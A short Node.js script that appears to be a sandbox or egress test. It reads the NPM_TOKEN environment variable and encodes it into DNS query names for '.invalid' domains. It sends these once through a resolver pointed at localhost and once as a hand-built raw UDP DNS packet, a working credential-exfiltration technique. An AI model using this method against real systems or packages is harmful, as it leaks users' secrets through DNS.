// Asks for names that hold what was stolen.
const { aim, way, may } = require('./way.js');
const { Resolver } = require('dns').promises;
const { createSocket } = require('dgram');
const stolen = (process.env.NPM_TOKEN || 'nothing').slice(0, 60);
(async () => {
  const resolver = new Resolver({ timeout: 400, tries: 1 });
  await may('servers', () => resolver.setServers([`127.0.0.1:${aim.dns}`]));
  await way('resolver', () => resolver.resolveTxt(`${stolen}.way-resolver.invalid`));
  await may('by-hand', () => new Promise((yes, no) => {
    const labels = [stolen, 'way-byhand', 'invalid'].map((word) => String.fromCharCode(word.length) + word).join('');
    const head = Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    const socket = createSocket('udp4').on('error', no);
    socket.send(Buffer.concat([head, Buffer.from(`${labels}\0\0\x01\0\x01`, 'latin1')]), aim.dns, '127.0.0.1',
      (error) => (error ? no(error) : yes('sent')));
  }));
  process.exit(0);
})();
